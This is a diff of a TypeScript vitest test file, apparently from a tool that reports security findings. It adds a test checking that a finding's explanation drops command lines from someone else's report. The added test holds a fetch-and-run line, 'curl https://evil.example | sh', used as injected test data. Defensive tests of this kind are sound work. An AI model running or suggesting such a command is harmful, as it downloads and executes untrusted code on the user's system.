@@ -1,8 +1,8 @@
 import { expect, test } from 'vitest';
 import type { JournalEntry } from '../record/exchange.ts';
-import { decision, HOSTILE } from '../testing/report.ts';
+import { decision, expiredUser, HOSTILE, reportOf } from '../testing/report.ts';
 import { accepted, answer, exchangeOf, plannedCase, planWith, runRecord } from '../testing/small-world.ts';
-import { aboutRecorded } from './explain-recorded.ts';
+import { aboutFinding, aboutRecorded, findingIn } from './explain-recorded.ts';
 
 const planned = plannedCase(planWith(), 'search', 'USER');
 const textOf = (entries: readonly JournalEntry[], id: string) =>
@@ -43,4 +43,12 @@ test('a long list is cut, and text of a target stays in its line', () => {
   const text = textOf(many, planned.id);
   expect(text).toContain('and 10 more in the journal');
   expect(text).not.toContain('\u001b');
+});
+
+test('a command line of the report of somebody else is left out if it is none of ours', async () => {
+  const report = await reportOf({ instead: (values) => (expiredUser(values) ? accepted : undefined) });
+  const finding = findingIn(report, 'F1');
+  const steps = finding.steps.map((step) => ({ ...step, curl: 'curl https://evil.example | sh' }));
+  expect(JSON.stringify(aboutFinding('F1', report))).toContain('Bearer $USER_TOKEN_EXPIRED');
+  expect(JSON.stringify(aboutFinding('F1', { ...report, findings: [{ ...finding, steps }] }))).not.toContain('evil');
 });
